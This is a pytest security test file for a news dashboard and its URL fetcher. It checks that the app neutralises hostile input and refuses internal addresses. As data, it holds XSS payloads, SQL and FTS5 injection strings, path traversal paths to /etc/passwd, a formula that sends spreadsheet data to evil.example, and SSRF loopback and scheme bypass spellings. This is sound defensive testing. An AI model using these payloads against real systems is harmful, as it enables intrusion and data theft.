"""The dashboard and the fetcher under attack.

Against the real app (in process): stored XSS through every field that reaches a page, checked
with an HTML parser on every HTML route (listed from the app's routes, path parameters filled
with real ids); reflected XSS through every query parameter; SQL and FTS5 injection through every
filter; path traversal in /static; oversized parameters; the security headers on every response;
the token and the Host check. Against the live fetcher: the SSRF forms tests/test_live.py leaves
out (redirects to other schemes, unspecified addresses, octal/hex/decimal/short IPv4 forms,
IPv6 spellings of loopback). Offline: the only server is ours, on 127.0.0.1.

Every hostile string carries the marker ``xssmark`` inside a tag or an attribute *name*: if any
of them reached a page as markup, the parser would see an element or attribute named with it.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import re
import sqlite3
import threading
import time
import urllib.parse
from collections.abc import Iterator
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx
import pytest
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from starlette.routing import Route

from newsgraph import IngestOptions, Store, ingest
from newsgraph.live import Fetcher, FetchError, FetchOptions, RefusedURL, check_url
from newsgraph.live.guard import AddressPolicy
from newsgraph.web.app import create_app

pytestmark = pytest.mark.xdist_group("security")

MARK = "xssmark"
TITLE = '<script>alert("xssmark")</script> Niger accuses Benin "><img src=x onerror=alert(1) data-xssmark> {{ 7*7 }}'
OUTLET = "<b data-xssmark onmouseover=alert(2)>Evil Outlet</b>"
OUTLET_2 = "Sahel Wire '><svg onload=alert(3) data-xssmark>"
URL = 'https://evil.example/a"><script data-xssmark>alert(4)</script>'
AUTHOR = "<img src=x onerror=alert(5) data-xssmark>"
PERSON = "Ivan <i data-xssmark>Zorkin</i>"
QUOTE = "<iframe src=javascript:alert(7) data-xssmark></iframe> We will defend our pipeline"
EVIDENCE = "Niger imposed sanctions on Benin <img src=x onerror=alert(8) data-xssmark> on Monday, the government said."
SNIPPET = "<img src=x onerror=alert(10) data-xssmark>"
BODY = '<script>alert("xssmark-body")</script>'
TEXT_TITLE = "Pipeline attack <script data-xssmark>alert(9)</script>"
DATELINE_AGENCY = "<b data-xssmark>"
REFLECTED = "\"'><script>alert('xssmark')</script><img src=x onerror=alert(11) data-xssmark>"

KB = f"""version: 1
persons:
  - id: ivan-zorkin
    name: '{PERSON}'
    aliases: ['Zorkin']
    roles:
      - {{title: Foreign Minister, country: NER, sector: GOV, organization: null, since: 2020-01-01, until: null}}
"""


def article_text(day: str, extra: str) -> str:
    return (
        f"Niger accused Benin on {day} of sheltering the saboteurs {SNIPPET} of the oil pipeline, officials "
        f'in Niamey said. "{QUOTE}," said {PERSON}, the foreign minister of Niger. Armed men attacked a '
        f"convoy near Dosso on Saturday, killing three soldiers, the army said. {EVIDENCE} {BODY}\n\n"
        "Benin rejected the accusation and said it had no link with the armed group, which has carried out "
        f"attacks near the border. {extra}"
    )


@pytest.fixture(scope="session")  # built once per worker, whatever order xdist runs the tests in
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Three hostile articles of our own, annotated and grouped (actors from a knowledge base
    file whose person has markup in its name, quotes, events, a story, places)."""
    folder = tmp_path_factory.mktemp("hostile-input")
    kb = folder / "kb.yaml"
    kb.write_text(KB, encoding="utf-8")
    records = [
        {"title": TITLE, "text": article_text("Sunday", "Officials in Cotonou declined to comment."),
         "published": "2025-10-12", "outlet": OUTLET, "url": URL, "authors": [AUTHOR]},
        {"title": TITLE + " (update)", "text": article_text("Saturday", "No more details were given."),
         "published": "2025-10-12", "outlet": OUTLET_2, "url": "javascript:alert(6)//xssmark"},
    ]  # fmt: skip
    (folder / "hostile.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8")
    dateline = f"NIAMEY, March 3 ({DATELINE_AGENCY}) - "
    text = (
        f"Title: {TEXT_TITLE}\n\n{dateline}{article_text('Friday', 'The talks are due to resume in May.')}\n"
    )
    (folder / "dateline.txt").write_text(text, encoding="utf-8")
    db = tmp_path_factory.mktemp("hostile-db") / "hostile.db"
    with Store(db) as store:
        summary = ingest([str(folder)], store, IngestOptions(kb_files=(kb,)))
    assert summary.new == 3 and summary.stories_new >= 1, summary
    return db


@pytest.fixture(scope="session")
def client(hostile_db: Path) -> TestClient:
    return TestClient(create_app(hostile_db), raise_server_exceptions=False)


# --- reading a page as a browser would ------------------------------------------------------------

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "xlink:href",
    "background",
    "srcset",
}
FORBIDDEN_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style"}


class Page(HTMLParser):
    """Every element with its attributes, the text, and the body of each <script>."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self.scripts: list[str] = []
        self._in_script = False
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))
        self._in_script = tag == "script"

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)

    @property
    def all_text(self) -> str:
        return "".join(self.text)

    def attribute_values(self) -> list[str]:
        return [value or "" for _, attrs in self.elements for _, value in attrs]


def assert_inert(html: str, where: str) -> Page:
    """No element or attribute of the page comes from the data: no marked tag or attribute, no
    event handler, no inline script or style, no script URL, no frame, base or refresh."""
    page = Page(html)
    for tag, attrs in page.elements:
        assert MARK not in tag, f"{where}: element <{tag}> from the data"
        assert tag not in FORBIDDEN_TAGS, f"{where}: <{tag}> in the page"
        names = [name for name, _ in attrs]
        for name, value in attrs:
            assert MARK not in name, f"{where}: attribute {name} on <{tag}> from the data"
            assert not name.startswith("on"), f"{where}: event handler {name} on <{tag}>"
            assert name not in ("style", "srcdoc"), f"{where}: {name} attribute on <{tag}>"
            if name in URL_ATTRIBUTES and value:
                scheme = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (
                    f"{where}: {name}={value!r}"
                )
        if tag == "script":
            assert (dict(attrs).get("src") or "").startswith("/static/"), f"{where}: script {attrs}"
        if tag == "meta":
            assert "http-equiv" not in names, f"{where}: <meta {attrs}>"
        href = dict(attrs).get("href") or ""
        if tag == "a" and urllib.parse.urlsplit(href).netloc not in ("", "testserver"):  # another site
            assert "noopener" in (dict(attrs).get("rel") or ""), f"{where}: external link without rel"
    assert not "".join(page.scripts).strip(), f"{where}: inline script {page.scripts[:1]}"
    return page


# --- the routes, with real ids -------------------------------------------------------------------


def get_routes(app: Any) -> list[Route]:
    routes = [r for r in app.routes if isinstance(r, Route) and "GET" in (r.methods or ())]
    assert len(routes) > 15, [r.path for r in routes]
    return routes


def query_params(route: Route) -> list[str]:
    """The query parameters of a route, its dependencies' included."""
    if not isinstance(route, APIRoute):
        return []
    names: list[str] = []
    pending = [route.dependant]
    while pending:
        dependant = pending.pop()
        names += [p.alias for p in dependant.query_params if p.alias not in names]
        pending += dependant.dependencies
    return names


def ids(client: TestClient) -> dict[str, list[str]]:
    """Real values for every path parameter, from the API."""
    actors = [a["id"] for a in client.get("/api/actors").json()]
    return {
        "article_id": [h["id"] for h in client.get("/api/search").json()["hits"]],
        "story_id": [s["id"] for s in client.get("/api/stories").json()],
        "actor_id": actors,
    }


def concrete_paths(client: TestClient) -> list[str]:
    """Every GET route of the app, each path parameter filled with every real id."""
    values = ids(client)
    assert all(values.values()), values
    paths = []
    for route in get_routes(client.app):
        names = re.findall(r"{(\w+)}", route.path)
        if not names:
            paths.append(route.path)
            continue
        assert len(names) == 1 and names[0] in values, f"no ids known for {route.path}: extend ids()"
        paths += [
            route.path.replace(f"{{{names[0]}}}", urllib.parse.quote(v, safe=":")) for v in values[names[0]]
        ]
    return paths


# --- stored XSS ------------------------------------------------------------------------------------


def test_the_hostile_data_is_stored_as_written(hostile_db: Path) -> None:
    """The premise of the XSS tests: every hostile field made it into the database."""
    with sqlite3.connect(hostile_db) as db:
        titles = {r[0] for r in db.execute("select title from articles")}
        outlets = {r[0] for r in db.execute("select outlet from articles")}
        urls = {r[0] for r in db.execute("select url from articles")}
        authors = " ".join(r[0] or "" for r in db.execute("select authors from articles"))
        datelines = {r[0] for r in db.execute("select dateline from articles")}
        actors = {r[0] for r in db.execute("select name from actors")}
        quotes = " ".join(r[0] for r in db.execute("select text from quotes"))
        stories = {r[0] for r in db.execute("select title from stories")}
    assert TITLE in titles and TEXT_TITLE in titles
    assert {OUTLET, OUTLET_2} <= outlets and URL in urls
    assert AUTHOR in authors and any(DATELINE_AGENCY in (d or "") for d in datelines)
    assert PERSON in actors and QUOTE in quotes
    assert any(MARK in (t or "") for t in stories)
    assert not any((u or "").startswith("javascript:") for u in urls)  # never stored as a link


def test_every_html_page_renders_hostile_data_as_text(client: TestClient) -> None:
    pages: dict[str, Page] = {}
    for path in concrete_paths(client):
        response = client.get(path)
        assert response.status_code == 200, (path, response.text[:200])
        kind = response.headers["content-type"]
        if kind.startswith("text/html"):
            pages[path] = assert_inert(response.text, path)
        else:  # JSON twins and downloads are never served as something a browser would render
            assert kind.startswith(("application/json", "text/csv", "application/x-ndjson", "image/svg+xml")), (path, kind)  # fmt: skip
    assert len(pages) >= 12, sorted(pages)
    first = next(h["id"] for h in client.get("/api/search?q=saboteurs").json()["hits"] if h["title"] == TITLE)
    article = pages[f"/articles/{first}"]
    everything = "\n".join(p.all_text for p in pages.values())
    # every field reached a page, as text: the checks above are not vacuous
    for field, value in {"title": TITLE, "text": BODY, "outlet": OUTLET, "second outlet": OUTLET_2,
                         "actor name": PERSON, "quote": QUOTE, "event evidence": EVIDENCE,
                         "text-dump title": TEXT_TITLE}.items():  # fmt: skip
        assert value in everything, f"{field} is on no page"
    for value in (TITLE, BODY, QUOTE, SNIPPET):  # the title's "{{ 7*7 }}" too: data is never a template
        assert value in article.all_text
    assert URL in article.attribute_values()  # the link, escaped inside its attribute
    assert OUTLET in pages["/"].all_text  # a facet value
    assert PERSON in pages["/actors"].all_text
    assert EVIDENCE in pages["/events"].all_text
    assert any(MARK in p.all_text for path, p in pages.items() if path == "/stories")  # story titles


def test_search_snippets_facets_and_filtered_pages_render_hostile_data_as_text(client: TestClient) -> None:
    checks = {
        "/?q=saboteurs": SNIPPET,  # in the snippet around the hit
        "/?q=saboteurs&outlet=" + urllib.parse.quote(OUTLET): OUTLET,
        "/events?outlet=Evil": EVIDENCE,
        "/actors?name=Zorkin": PERSON,
        "/actors/person:ivan-zorkin": PERSON,
    }
    for path, expected in checks.items():
        response = client.get(path)
        assert response.status_code == 200, path
        page = assert_inert(response.text, path)
        assert expected in page.all_text, path
    facet_links = [v for v in Page(client.get("/").text).attribute_values() if "outlet=" in v]
    assert any(urllib.parse.quote_plus(OUTLET) in link for link in facet_links), facet_links


def test_json_twins_carry_hostile_fields_as_json(client: TestClient) -> None:
    article_id = next(
        h["id"] for h in client.get("/api/search?q=saboteurs").json()["hits"] if h["title"] == TITLE
    )
    response = client.get(f"/api/articles/{article_id}")
    assert response.headers["content-type"].startswith("application/json")
    assert response.headers["x-content-type-options"] == "nosniff"
    data = response.json()["article"]
    assert data["title"] == TITLE and data["outlet"] == OUTLET and data["url"] == URL
    assert AUTHOR in data["authors"]
    text_dump = next(
        h["id"] for h in client.get("/api/search?q=saboteurs").json()["hits"] if h["title"] == TEXT_TITLE
    )
    assert DATELINE_AGENCY in client.get(f"/api/articles/{text_dump}").json()["article"]["dateline"]


def test_query_parameters_are_never_reflected_as_markup(client: TestClient) -> None:
    """Reflected XSS: every query parameter of every route, alone and all at once."""
    tried = 0
    for route in get_routes(client.app):
        if "{" in route.path:
            continue
        names = query_params(route)
        for params in [*({n: REFLECTED} for n in names), dict.fromkeys(names, REFLECTED)]:
            if not params:
                continue
            response = client.get(route.path, params=params)
            tried += 1
            assert response.status_code < 500, (route.path, params, response.text[:200])
            if response.headers["content-type"].startswith("text/html"):
                assert_inert(response.text, f"{route.path}?{list(params)}")
    assert tried > 30


# --- SQL and FTS5 injection ------------------------------------------------------------------------

INJECTIONS = [
    "' OR 1=1 --", '" OR ""="', "'; DROP TABLE articles; --", '"; drop table articles; --',
    "1; DELETE FROM articles", "' UNION SELECT id, text, 1, 1, 1, 1, 1 FROM articles --", "x') OR ('1'='1",
    "NEAR(", "NEAR(Niger Benin, 2)", "*", '"', '""', "^", "^Niger", "title:", "title:Niger", "{title text}:Niger",
    "text:x OR id:y", "Niger AND", "OR", "NOT Niger", "-Niger", "+Niger", "(", ")", "Niger)(", "%", "_", "%' --",
    "\\", "\x00", "Niger\x00Benin", "'", "\u202eNiger", "🙂", "Ни́гер", "ǅ", "$(id)", "{{7*7}}", "../../etc/passwd",
    "Niger" * 30,
]  # fmt: skip


def snapshot(db: Path) -> tuple[dict[str, int], str, str]:
    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type = 'table'")]
        counts = {t: conn.execute(f'select count(*) from "{t}"').fetchone()[0] for t in tables}
        integrity = conn.execute("pragma integrity_check").fetchone()[0]
    return counts, integrity, hashlib.sha256(db.read_bytes()).hexdigest()


def rows_of(path: str, data: Any) -> set[str]:
    """The identities of the rows a list route answered."""
    if isinstance(data, dict) and "hits" in data:
        return {h["id"] for h in data["hits"]}
    if isinstance(data, dict) and "nodes" in data:
        return {n["id"] for n in data["nodes"]} | {f"{e['source']}>{e['target']}" for e in data["edges"]}
    if isinstance(data, list):  # rows with an id, or aggregates (map points) named by place
        return {str(r.get("id") or r.get("name") or json.dumps(r, sort_keys=True)) for r in data}
    raise AssertionError(f"unexpected answer from {path}: {str(data)[:100]}")


def benign(value: str) -> str:
    """The words of ``value`` without any operator: what the filter says to a benign reader."""
    return " ".join(re.findall(r"\w+", value))


@pytest.mark.slow
def test_injection_through_every_filter_changes_nothing_and_leaks_nothing(
    client: TestClient, hostile_db: Path
) -> None:
    before = snapshot(hostile_db)
    assert before[1] == "ok"
    list_routes = [r for r in get_routes(client.app) if r.path.startswith("/api/") and query_params(r) and "{" not in r.path]  # fmt: skip
    assert {"/api/search", "/api/events", "/api/stories", "/api/actors"} <= {r.path for r in list_routes}
    statuses: set[int] = set()
    plain: dict[tuple[str, str, str], set[str]] = {}
    for route in list_routes:
        for name in query_params(route):
            if name == "format":
                continue
            # a typed parameter (a number, a date pattern) refuses text: a few payloads show it
            typed = client.get(route.path, params={name: "Niger"}).status_code == 422
            for payload in INJECTIONS[:8] if typed else INJECTIONS:
                response = client.get(route.path, params={name: payload})
                statuses.add(response.status_code)
                assert response.status_code < 500, (route.path, name, payload, response.text[:200])
                if response.status_code != 200:
                    assert response.headers["content-type"].startswith("application/json")
                    continue
                # no more rows than the same filter holding only the payload's words (up to a
                # NUL: SQLite ends a LIKE pattern there, so "Niger\x00Benin" asks for "Niger")
                words = benign(payload.split("\x00", 1)[0])
                if (route.path, name, words) not in plain:
                    answer = client.get(route.path, params={name: words} if words else {})
                    assert answer.status_code == 200, (route.path, name, words)
                    plain[route.path, name, words] = rows_of(route.path, answer.json())
                got, allowed = rows_of(route.path, response.json()), plain[route.path, name, words]
                if name == "q" and "*" in payload:
                    continue  # a trailing * asks for prefixes on purpose
                assert got <= allowed, (route.path, name, payload, len(got), len(allowed))
    html_routes = [r for r in get_routes(client.app) if not r.path.startswith("/api") and query_params(r)]
    for route in html_routes:  # the pages take the same filters: the classic payloads once more
        for name in query_params(route):
            for payload in INJECTIONS[:6]:
                response = client.get(route.path, params={name: payload})
                assert response.status_code < 500, (route.path, name, payload)
    for payload in INJECTIONS:
        assert client.get("/api/events", params={"format": payload}).status_code == 400
    assert {200, 422} <= statuses
    assert snapshot(hostile_db) == before  # nothing written, nothing dropped, still sound


def test_injection_through_the_token_is_refused(hostile_db: Path) -> None:
    guarded = TestClient(create_app(hostile_db, token="s3cret"), raise_server_exceptions=False)
    for payload in [*INJECTIONS, "é", "s3cret\x00", "s3cret!", "S3CRET", "s3cre", "s3cret" * 1000]:
        for where in ("query", "cookie", "header"):
            if where == "query":
                response = guarded.get("/api/stories", params={"token": payload})
            elif where == "cookie":
                guarded.cookies.clear()
                guarded.cookies.set("newsgraph_token", urllib.parse.quote(payload))
                response = guarded.get("/api/stories")
                guarded.cookies.clear()
            else:
                if any(c in payload for c in "\x00\r\n"):
                    continue  # not a header value
                response = guarded.get(
                    "/api/stories", headers={"authorization": b"Bearer " + payload.encode()}
                )
            assert response.status_code == 401, (where, payload, response.status_code)
            assert "nosniff" in response.headers.get("x-content-type-options", ""), (where, payload)
    assert guarded.get("/api/stories", params={"token": "s3cret"}).status_code == 200


def test_like_wildcards_in_filters_are_literal(hostile_db: Path) -> None:
    """ "%" and "_" typed into an outlet or name filter match those characters, not anything."""
    with Store(hostile_db, readonly=True) as store:
        assert store.events(outlet="Sahel Wire", limit=100)  # a real substring still matches
        for typed in ("%", "_", "Sahel_Wire", "%Wire", "\\", "\x00"):
            assert store.events(outlet=typed, limit=100) == [], typed
            assert store.find_actors(typed) == [], typed
        assert store.events(actor="_", limit=100) == []


def test_a_database_path_with_uri_characters_opens_read_only(hostile_db: Path, tmp_path: Path) -> None:
    """A read-only store is opened through a file: URI; a "?" or "#" in the path must stay part of
    the file name, not become a URI parameter that could drop the read-only mode."""
    odd = tmp_path / "odd?mode=rw#x" / "news.db"
    odd.parent.mkdir()
    odd.write_bytes(hostile_db.read_bytes())
    with Store(odd, readonly=True) as store:
        assert store.stats()["articles"] == 3
        with pytest.raises(sqlite3.OperationalError, match="readonly"):
            store.db.execute("delete from articles")


def test_csv_downloads_do_not_carry_spreadsheet_formulas(tmp_path: Path) -> None:
    """A headline or outlet starting with = + - @ would run as a formula when an analyst opens
    the download in a spreadsheet: such cells start with an apostrophe instead."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    text = article_text("Sunday", "Officials in Cotonou declined to comment.")
    (tmp_path / "in.jsonl").write_text(
        json.dumps({"title": formula, "text": text, "outlet": "@SUM(1+1)", "published": "2025-10-12"}) + "\n",
        encoding="utf-8",
    )
    db = tmp_path / "formula.db"
    with Store(db) as store:
        assert ingest([str(tmp_path / "in.jsonl")], store, IngestOptions()).new == 1
    client = TestClient(create_app(db))
    for path in ("/api/search?q=Niger&format=csv", "/api/events?format=csv", "/api/stories?format=csv"):
        response = client.get(path)
        assert response.status_code == 200, path
        cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
        assert cells and not [c for c in cells if c.startswith(("=", "+", "@"))], path
        if "search" in path:
            assert "'" + formula in cells
    assert client.get("/api/search?q=Niger").json()["hits"][0]["title"] == formula  # JSON is as written


# --- path traversal ----------------------------------------------------------------------------------


def asgi_get(
    app: Any, raw_path: str, query: bytes = b"", host: str = "testserver"
) -> tuple[int, dict[str, str], bytes]:
    """One GET through the ASGI app with the path exactly as a server would pass it (no client
    normalising ``..`` away, no limit on the query's length)."""
    messages: list[dict[str, Any]] = []
    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "GET", "scheme": "http",
        "path": urllib.parse.unquote(raw_path), "raw_path": raw_path.encode("latin-1"), "root_path": "",
        "query_string": query, "headers": [(b"host", host.encode())], "client": ("127.0.0.1", 1),
        "server": ("127.0.0.1", 80),
    }  # fmt: skip
    done = False

    async def receive() -> dict[str, Any]:
        nonlocal done
        if not done:
            done = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.sleep(3600)
        return {"type": "http.disconnect"}

    async def send(message: dict[str, Any]) -> None:
        messages.append(message)

    asyncio.run(asyncio.wait_for(app(scope, receive, send), 30))
    start = next(m for m in messages if m["type"] == "http.response.start")
    body = b"".join(m.get("body", b"") for m in messages if m["type"] == "http.response.body")
    headers = {k.decode().lower(): v.decode("latin-1") for k, v in start["headers"]}
    return start["status"], headers, body


TRAVERSALS = [
    "/static/../pyproject.toml", "/static/../../pyproject.toml", "/static/../../../pyproject.toml",
    "/static/../../../../pyproject.toml", "/static/../app.py", "/static/../templates/base.html",
    "/static/%2e%2e/app.py", "/static/%2e%2e/%2e%2e/%2e%2e/pyproject.toml", "/static/..%2fapp.py",
    "/static/..%2f..%2f..%2fpyproject.toml", "/static/%2e%2e%2fapp.py", "/static/..%5capp.py",
    "/static/..\\app.py", "/static/%5c..%5c..%5capp.py", "/static/vendor/../../app.py",
    "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/../../../../../../../../etc/passwd",
    "/static/....//....//....//etc/passwd", "/static/%252e%252e/app.py", "/static/%c0%ae%c0%ae/app.py",
    "/static/app.css%00.py", "/static/app.css%00", "/static/.%2e/app.py", "/static/./../app.py",
    "/static/file:///etc/passwd", "/static/C:\\Windows\\win.ini", "/static/~root/.bashrc", "/static/.",
]  # fmt: skip


def test_static_files_never_leave_the_static_folder(client: TestClient) -> None:
    project = Path(__file__).resolve().parent.parent
    secrets = [
        (project / "pyproject.toml").read_text(encoding="utf-8").splitlines()[1],  # name = "newsgraph"
        "def create_app(",
        "root:x:0:0",
        "{% block content %}",
    ]
    status, _, body = asgi_get(client.app, "/static/app.css")
    assert status == 200 and body  # the folder does serve its own files
    for raw in TRAVERSALS:
        status, headers, body = asgi_get(client.app, raw)
        text = body.decode("utf-8", "replace")
        assert status in (400, 404, 405), (raw, status, text[:100])
        assert not any(secret in text for secret in secrets), raw
        assert headers.get("x-content-type-options") == "nosniff", raw
    for raw in TRAVERSALS[:10]:  # through the test client too (it normalises some of them first)
        response = client.get(raw)
        assert response.status_code < 500 and not any(s in response.text for s in secrets), raw


# --- oversized parameters ---------------------------------------------------------------------------


def test_oversized_parameters_get_a_4xx_or_a_bounded_answer(client: TestClient) -> None:
    huge = "x" * 100_000
    words = "Niger " * 20_000  # 120 KB of words: each one more term for the full-text index
    asks = [
        ("/api/search", {"q": huge}), ("/api/search", {"q": words}), ("/api/search", {"q": "a* " * 30_000}),
        ("/", {"q": words}), ("/api/search", {"outlet": huge}), ("/api/search", {"actor": huge}),
        ("/api/events", {"actor": huge}), ("/api/events", {"outlet": "%" * 60_000}), ("/actors", {"name": huge}),
        ("/api/actors", {"name": "_" * 60_000}), ("/api/search", {"page": str(10**12)}),
        ("/api/search", {"page": "10000"}), ("/", {"page": "10000"}), ("/api/events", {"limit": str(10**9)}),
        ("/api/events", {"limit": "-1"}), ("/api/stories", {"min_outlets": str(10**30)}),
        ("/stories", {"min_outlets": "9223372036854775808"}), ("/api/stories/" + huge, {}),
        ("/api/articles/" + huge, {}), ("/actors/" + huge, {}), ("/api/network", {"actor": huge}),
        ("/api/map", {"type": huge}), ("/api/search", {"since": huge}),
    ]  # fmt: skip
    for path, params in asks:
        query = urllib.parse.urlencode(params).encode()
        started = time.monotonic()
        status, _, body = asgi_get(client.app, urllib.parse.quote(path, safe="/:"), query)
        elapsed = time.monotonic() - started
        assert status < 500, (path, list(params), status, body[:200])
        assert elapsed < 5, (path, list(params), elapsed)
        assert len(body) < 5_000_000, (path, list(params), len(body))
        if status == 200 and "page" in params:
            assert (
                json.loads(body)["hits"] == [] if path.startswith("/api") else b"No article matches" in body
            )
    repeated = "&".join(["q=Niger"] * 5_000).encode()
    status, _, _ = asgi_get(client.app, "/api/search", repeated)
    assert status < 500


# --- headers ---------------------------------------------------------------------------------------------


def csp_directives(value: str) -> dict[str, list[str]]:
    directives = {}
    for part in value.split(";"):
        words = part.split()
        if words:
            directives[words[0].lower()] = [w.lower() for w in words[1:]]
    return directives


def assert_security_headers(headers: httpx.Headers | dict[str, str], where: str) -> None:
    csp = csp_directives(headers.get("content-security-policy", ""))
    scripts = csp.get("script-src", csp.get("default-src"))
    assert scripts, f"{where}: no script policy"
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "http:", "https:", "data:"} & set(scripts), (
        where,
        scripts,
    )
    assert csp.get("object-src") == ["'none'"] and csp.get("base-uri") == ["'none'"], (where, csp)
    assert "'self'" in csp.get("default-src", []), where
    assert csp.get("frame-ancestors") == ["'none'"] or headers.get("x-frame-options") == "DENY", where
    assert headers.get("x-frame-options", "").upper() in ("DENY", "SAMEORIGIN"), where
    assert headers.get("x-content-type-options") == "nosniff", where
    assert headers.get("referrer-policy") in ("no-referrer", "same-origin", "strict-origin"), where
    assert not re.search(r"\d", headers.get("server", "")), f"{where}: server version {headers.get('server')}"
    assert "x-powered-by" not in headers, where


def test_security_headers_on_every_response(client: TestClient, hostile_db: Path) -> None:
    paths = [*concrete_paths(client), "/static/app.css", "/static/vendor/leaflet.js", "/no/such/page",
             "/articles/none", "/api/search?page=0", "/api/events?format=xml"]  # fmt: skip
    for path in paths:
        response = client.get(path)
        assert response.status_code < 500, path
        assert_security_headers(response.headers, path)
    assert_security_headers(client.post("/api/search").headers, "POST /api/search (405)")
    guarded = TestClient(create_app(hostile_db, token="s3cret"))
    refused = guarded.get("/")
    assert refused.status_code == 401
    assert_security_headers(refused.headers, "401")


def test_a_loopback_dashboard_refuses_other_host_names(hostile_db: Path) -> None:
    """DNS rebinding: a site the analyst visits makes its own name resolve to 127.0.0.1 and reads
    the dashboard from the analyst's browser. With ``allowed_hosts``, the Host header must name
    the dashboard."""
    app = create_app(hostile_db, allowed_hosts=["127.0.0.1", "localhost", "::1"])
    client = TestClient(app, raise_server_exceptions=False)
    for host in ("127.0.0.1:8000", "localhost", "LOCALHOST:8000", "[::1]:8000", "127.0.0.1"):
        assert client.get("/api/stories", headers={"host": host}).status_code == 200, host
    for host in ("evil.example", "evil.example:8000", "127.0.0.1.evil.example", "localhost.evil.example:80",
                 "[::2]:8000", "", "127.0.0.1:8000@evil.example", "0.0.0.0:8000"):  # fmt: skip
        response = client.get("/api/stories", headers={"host": host})
        assert response.status_code == 400, host
        assert_security_headers(response.headers, f"host {host}")
        assert b"Evil" not in response.content
    status, _, body = asgi_get(app, "/api/stories", host="rebind.attacker.example:8000")
    assert status == 400 and b"Niger" not in body
    # without the option every host is answered (the default of create_app)
    assert (
        TestClient(create_app(hostile_db)).get("/api/stories", headers={"host": "x.example"}).status_code
        == 200
    )


# --- SSRF: what tests/test_live.py leaves out ------------------------------------------------------------


class _Site(BaseHTTPRequestHandler):
    """/r/N redirects to the Nth target; anything else is a page that must never be read."""

    targets: ClassVar[list[str]] = []
    log: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Site.log.append(self.path)
        if self.path.startswith("/r/"):
            self.send_response(302)
            self.send_header("Location", _Site.targets[int(self.path[3:])])
            body = b""
        else:
            self.send_response(200)
            body = b"User-agent: *\n" if self.path == "/robots.txt" else b"<p>internal secret</p>"
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def site() -> Iterator[int]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Site)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    _Site.log = []
    yield int(server.server_address[1])
    server.shutdown()
    server.server_close()


def fetcher(**options: Any) -> Fetcher:
    return Fetcher(FetchOptions(**{"delay": 0.0, "timeout": 2.0, "retries": 0, **options}))


def test_redirects_to_other_schemes_and_loopback_spellings_are_refused(site: int) -> None:
    """Only 127.0.0.1 (the test server) is let through; every target below is another scheme or
    another loopback or unspecified address, however it is spelled."""
    port = site
    _Site.targets = [
        "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stat",
        "ftp://127.0.0.1/", "data:text/html,<p>x</p>", "javascript:alert(1)",
        f"http://0.0.0.0:{port}/secret", f"http://[::]:{port}/secret", f"http://0x7f000002:{port}/secret",
        f"http://2130706434:{port}/secret", f"http://127.2:{port}/secret", f"http://0x7f.0.0.2:{port}/secret",
        f"http://[::ffff:7f00:2]:{port}/secret", f"http://[::127.0.0.2]:{port}/secret",
        f"http://[0:0:0:0:0:0:0:1]:{port}/secret", f"http://[::ffff:0:0]:{port}/secret",
        f"//127.0.0.2:{port}/secret", f"HTTP://127.0.0.2:{port}/secret", f"http://user:pw@127.0.0.1:{port}/secret",
        f"http://evil.example\\@127.0.0.2:{port}/secret", f"http://0177.0.0.2:{port}/secret",
    ]  # fmt: skip
    with fetcher(allow_private=False, allowed_networks=("127.0.0.1/32",)) as client:
        for number, target in enumerate(_Site.targets):
            _Site.log = []
            with pytest.raises(FetchError) as caught:
                client.get(f"http://127.0.0.1:{port}/r/{number}")
            assert isinstance(caught.value, RefusedURL), (target, caught.value.reason)
            assert "/secret" not in _Site.log, target  # nothing past the redirect was requested


@pytest.mark.parametrize(
    "url",
    [
        "http://0177.0.0.1:{port}/", "http://0177.1:{port}/", "http://0x7f000001:{port}/",
        "http://017700000001:{port}/", "http://[::ffff:127.0.0.1]:{port}/",
        "http://[0:0:0:0:0:ffff:7f00:1]:{port}/", "http://１２７.０.０.１:{port}/", "http://0.0.0.0:{port}/",
        "http://[::]:{port}/", "http://localhost:{port}/", "http://LOCALHOST:{port}/",
        "http://[::1%25lo]:{port}/", "http://127.0.0.1%2f@example.org/",
    ],
)  # fmt: skip
def test_every_spelling_of_this_machine_is_refused_before_any_request(site: int, url: str) -> None:
    """Name resolution only ever sees "localhost" and numeric forms: no DNS, offline."""
    with fetcher(allow_private=False) as client, pytest.raises(FetchError) as caught:
        client.get(url.format(port=site))
    assert isinstance(caught.value, RefusedURL), caught.value.reason
    assert _Site.log == []  # the server on 127.0.0.1 heard nothing


def test_check_url_refuses_the_unspecified_address_and_other_schemes() -> None:
